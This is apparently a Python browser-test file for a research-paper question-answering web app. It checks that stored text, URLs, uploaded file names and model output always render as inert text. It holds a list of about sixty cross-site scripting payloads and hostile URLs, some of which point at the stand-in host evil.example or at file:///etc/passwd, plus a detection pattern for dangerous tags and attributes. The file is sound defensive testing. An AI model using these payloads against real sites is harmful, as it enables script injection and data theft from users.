"""Whatever stands in papers, addresses, questions, files or a model's words, nothing of it runs."""

from typing import Any
from urllib.parse import urlencode

import pytest
from browser import Reader, served
from playwright.sync_api import Browser, expect
from pydantic import SecretStr
from question_sets import a_case, as_file, upload
from scripted_endpoint import ScriptedEndpoint
from scripted_engine import Line, ScriptedEngine

from rag.records import Answer, Citation, CitedSpan, Decision, Fate, Paper, Receipt
from ui.papers import address as opened_address

pytestmark = pytest.mark.browser

HIT = "window.__hit=1"
"""What every payload tries to do; a dialog or a request to elsewhere would be noticed too."""

PAYLOADS = tuple(
    payload.replace("HIT", HIT)
    for payload in (
        "<script>HIT</script>",
        "<SCRIPT/x>HIT</SCRIPT>",
        "<scr<script>ipt>HIT</scr</script>ipt>",
        "<script src=http://evil.example/x.js></script>",
        "<img src=x onerror=HIT>",
        "<img src=x onerror='HIT'//",
        "<img/src='x'/onerror=HIT>",
        "<IMG SRC=x OnErRoR=HIT>",
        '"><img src=x onerror=HIT>',
        "'><img src=x onerror=HIT>",
        "--><img src=x onerror=HIT>",
        "</textarea><img src=x onerror=HIT>",
        "</title><img src=x onerror=HIT>",
        "</style><img src=x onerror=HIT>",
        "</script><img src=x onerror=HIT>",
        "<svg onload=HIT>",
        "<svg><script>HIT</script></svg>",
        "<svg><animate onbegin=HIT attributeName=x dur=1s>",
        "<svg><a xlink:href='javascript:HIT'><text y=20>x</text></a></svg>",
        "<math><mtext><table><mglyph><style><img src=x onerror=HIT>",
        "<math href='javascript:HIT'>x</math>",
        "<body onload=HIT>",
        "<iframe src='javascript:HIT'></iframe>",
        "<iframe srcdoc='<script>parent.HIT</script>'></iframe>",
        "<object data='javascript:HIT'></object>",
        "<embed src='javascript:HIT'>",
        "<details open ontoggle=HIT>x</details>",
        "<video><source onerror=HIT></video>",
        "<audio src=x onerror=HIT></audio>",
        "<input autofocus onfocus=HIT>",
        "<select autofocus onfocus=HIT></select>",
        "<marquee onstart=HIT>x</marquee>",
        "<form action='javascript:HIT'><button>x</button></form>",
        "<a href='javascript:HIT'>x</a>",
        "<base href='http://evil.example/'>",
        "<meta http-equiv=refresh content='0;url=http://evil.example/'>",
        "<link rel=stylesheet href=http://evil.example/x.css>",
        "<style>@import 'http://evil.example/y.css';</style>",
        '" onmouseover=HIT autofocus onfocus=HIT x="',
        "' onmouseover=HIT autofocus onfocus=HIT x='",
        "` onmouseover=HIT x=`",
        "[x](javascript:HIT)",
        "![x](http://evil.example/z.png)",
        "[x](data:text/html;base64,PHNjcmlwdD5wYXJlbnQuX19oaXQ9MTwvc2NyaXB0Pg==)",
        "<javascript:HIT>",
        "&lt;img src=x onerror=HIT&gt;",
        "&#60;img src=x onerror=HIT&#62;",
        "\\x3cimg src=x onerror=HIT\\x3e",
        "$\\href{javascript:HIT}{x}$",
        "$\\text{<img src=x onerror=HIT>}$",
        "$\\unicode{<img src=x onerror=HIT>}$",
        "\\url{javascript:HIT}",
        "\\href{javascript:HIT}{x}",
        "`<img src=x onerror=HIT>`",
        "**<img src=x onerror=HIT>**",
        "${HIT}",
        "{{HIT}}",
        "{{#each x}}<img src=x onerror=HIT>{{/each}}",
        "@children<img src=x onerror=HIT>",
        "\u202e<img src=x onerror=HIT>\u0000\ufeff",
    )
)
URLS = tuple(
    url.replace("HIT", HIT)
    for url in (
        "javascript:HIT",
        "JaVaScRiPt:HIT",
        " javascript:HIT",
        "java\nscript:HIT",
        "\x01javascript:HIT",
        "data:text/html,<script>HIT</script>",
        "vbscript:HIT",
        "blob:http://evil.example/x",
        "file:///etc/passwd",
        "//evil.example/x",
        "https:javascript:HIT",
        "http:///javascript:HIT",
        'https://x" onmouseover=HIT x="',
        "https://[::1",
        "javascript://example.org/%0aHIT",
    )
)
CLICK_EVERYTHING = """() => {
    for (const details of document.querySelectorAll("details")) details.open = true;
    for (const element of document.querySelectorAll("#desk *, #browse *, #eval *, #top *")) {
        for (const kind of ["mouseover", "mouseenter", "pointerover", "focus", "focusin", "toggle"]) {
            element.dispatchEvent(new Event(kind, { bubbles: true }));
        }
    }
}"""
EVERYTHING = '[...document.querySelectorAll("#desk *, #browse *, #eval *, #top *")]'
BAD = f"""() => {EVERYTHING}.filter((e) =>
    ["IFRAME", "OBJECT", "EMBED", "BASE", "META", "LINK", "SCRIPT"].includes(e.tagName)
    || ["href", "xlink:href", "action", "src", "srcdoc", "data"].some(
        (name) => /^\\s*(javascript|data|vbscript|blob|file):/i.test(e.getAttribute(name) ?? ""))
    || [...e.attributes].some((a) => a.name.startsWith("on"))).map((e) => e.outerHTML.slice(0, 200))"""


def test_there_are_more_than_forty_payloads() -> None:
    assert len({*PAYLOADS}) >= 55
    assert len({*URLS}) >= 15


@pytest.mark.parametrize("url", URLS)
def test_no_address_but_http_opens(url: str) -> None:
    opened = opened_address(url)
    assert opened is None or opened.startswith(("http://", "https://"))
    assert opened is None or '"' not in opened.replace("&quot;", "") or " " not in opened


PAPERS = tuple(
    Paper(
        f"{n}{payload}",
        f"{n} {payload}",
        f"First {payload} sentence. Second sentence.",
        (payload, f"A. {payload} Uthor"),
        payload,
        2000 + n,
        f"track {payload}",
        URLS[n % len(URLS)],
        (payload,),
    )
    for n, payload in enumerate(PAYLOADS)
)


def answer_to(question: str) -> Answer:
    """An answer that holds every payload in each place an answer has."""
    text = "\n\n".join(f"{payload} said [{n + 1}]. | {payload} |" for n, payload in enumerate(PAYLOADS))
    citations = tuple(
        Citation(n + 1, paper, (CitedSpan(n, f"First {payload} sentence.", "weak"), CitedSpan(n, payload)))
        for n, (paper, payload) in enumerate(zip(PAPERS, PAYLOADS, strict=True))
    )
    found = tuple(
        Decision(paper, "yes", payload, 1.0, reason=payload)
        for paper, payload in zip(PAPERS, PAYLOADS, strict=True)
    )
    every = " ".join(PAYLOADS)
    receipt = Receipt("generated", model=every, searched_for=every, considered=60, notice=every)
    return Answer(
        question, "enumerate", "en", text, citations=citations, papers=found, confidence=0.5, receipt=receipt
    )


def unharmed(reader: Reader) -> None:
    """Nothing ran, asked, led away or broke, and nothing is there that could."""
    reader.page.evaluate(CLICK_EVERYTHING)
    reader.page.wait_for_timeout(200)
    assert reader.page.evaluate("window.__hit") is None
    assert reader.page.evaluate(BAD) == []
    assert (reader.foreign, reader.dialogs, reader.errors) == ([], [], [])


def pieces(text: str) -> list[str]:
    return [text[start : start + 400] for start in range(0, len(text), 400)]


def test_the_sentinel_would_notice(browser: Browser) -> None:
    with served(ScriptedEngine((), {})) as address:
        reader = Reader(browser, address)
        reader.page.evaluate(f"document.querySelector('#lead').innerHTML = `<img src=x onerror='{HIT}'>`")
        with pytest.raises(AssertionError):
            unharmed(reader)
        reader.leave()


@pytest.mark.parametrize("lang", ["en", "zh"])
def test_papers_questions_and_answers_are_text_everywhere(browser: Browser, lang: str) -> None:
    question = " ".join(PAYLOADS)[:3900]
    end = answer_to(question)
    lines = {question: Line(pieces(end.text)[:20], end), "fails?": Line(pieces(end.text)[:3], None)}
    likes = dict.fromkeys(PAYLOADS, PAPERS) | {PAPERS[0].id: PAPERS[1:]}
    with served(ScriptedEngine(PAPERS, lines, likes=likes)) as address:
        reader = Reader(browser, f"{address}/?lang={lang}")
        unharmed(reader)
        reader.ask(question)
        reader.page.locator("#current a.cite").first.click()
        reader.page.locator("#current a.cite").nth(3).hover()
        unharmed(reader)
        reader.ask("fails?")
        unharmed(reader)
        reader.page.click("#papers-tab-button")
        expect(reader.page.locator("#browse-results .record").first).to_be_visible()
        for _ in range(2):
            unharmed(reader)
            reader.page.locator("[data-page]").last.click()
            reader.page.wait_for_timeout(300)
        unharmed(reader)
        reader.page.locator("[data-ask]").last.click()
        unharmed(reader)
        reader.leave()


class Quoting(ScriptedEngine):
    """Says of any paper what its id says."""

    def why_not(self, paper_id: str, *asked: object, **options: object) -> Fate:
        return Fate(paper_id, paper_id, "screen", 7, 0.5, paper_id)


def test_what_is_looked_up_beside_an_answer_is_text(browser: Browser) -> None:
    """Every abstract of a list unfolded, every paper offered and explained."""
    with served(Quoting(PAPERS, {"which?": Line((), answer_to("which?"))})) as address:
        reader = Reader(browser, address)
        reader.ask("which?")
        rows = reader.page.locator("tr.paper")
        for row in rows.all():
            row.locator(".unfold").click()
            expect(row.locator(".abstract")).to_contain_text("Second sentence.")
        unharmed(reader)
        field = reader.page.locator(".why-not input")
        for n in range(0, len(PAYLOADS), 6):
            field.fill(PAPERS[n].id)
            offered = reader.page.locator(".why-not li button")
            expect(offered).to_have_count(1)
            unharmed(reader)
            offered.first.press("Enter")  # what was opened may lie over it
            expect(reader.page.locator(".why-not .outcome")).to_contain_text("score 0.50")
            unharmed(reader)
        reader.leave()


def test_addresses_are_text_everywhere(browser: Browser) -> None:
    """Every payload as a value of every filter, as a search, as the id of a paper: few to an address."""
    with served(ScriptedEngine(PAPERS, {})) as address:
        reader = Reader(browser, address)
        for start in range(0, len(PAYLOADS), 15):
            some = PAYLOADS[start : start + 15]
            pairs = [(name, p) for name in ("venue", "year", "track", "author", "keyword") for p in some]
            for name in ("q", "similar"):
                query = urlencode(
                    [*pairs, (name, some[start % len(some)]), ("tab", "papers"), ("lang", some[0])]
                )
                reader.page.goto(f"{address}/?{query}")
                expect(reader.page.locator("#browse-filters .chip").first).to_be_visible()
                unharmed(reader)
        reader.leave()


def test_names_and_contents_of_question_files_are_text(browser: Browser) -> None:
    cases = [
        a_case(f"{n} {payload}", payload, gold=[PAPERS[n].id], nuggets=[["never"]])
        for n, payload in enumerate(PAYLOADS)
    ]
    lines = {p: Line([p], Answer(p, "lookup", "en", p)) for p in PAYLOADS}
    with served(ScriptedEngine(PAPERS, lines)) as address:
        reader = Reader(browser, f"{address}/?tab=eval")
        for payload in ("<img src=x onerror=HIT>.jsonl".replace("HIT", HIT), '"><svg onload=HIT>'):
            reader.page.set_input_files("#eval-picker input", upload("nonsense", payload.replace("HIT", HIT)))
            expect(reader.page.locator("#eval-hint")).to_contain_text(
                "onerror" if "img" in payload else "svg"
            )
            unharmed(reader)
        reader.page.set_input_files("#eval-picker input", upload(as_file(cases), f"<b onclick={HIT}>x.jsonl"))
        expect(reader.page.locator("#eval-chosen p")).to_contain_text("<b onclick")
        reader.page.click("#eval-run")
        reader.page.wait_for_selector("#eval-headline:visible", timeout=90_000)
        unharmed(reader)
        reader.leave()


def test_what_an_endpoint_says_is_text(browser: Browser, endpoint: ScriptedEndpoint, tmp_path: Any) -> None:
    from rag.assembly import open_engine
    from rag.settings import Settings

    said = " ".join(f"HexGen-2 {payload} is disaggregated [1]." for payload in PAYLOADS)
    endpoint.answer_with(lambda request: said)
    settings = Settings.load(
        data_dir=tmp_path, openai_api_key=SecretStr("none"), openai_base_url=endpoint.url
    )
    engine = open_engine(settings)
    with served(engine) as address:
        reader = Reader(browser, address)
        reader.ask("How does HexGen-2 work?")
        unharmed(reader)
        reader.leave()
    assert endpoint.requests
    engine.close()
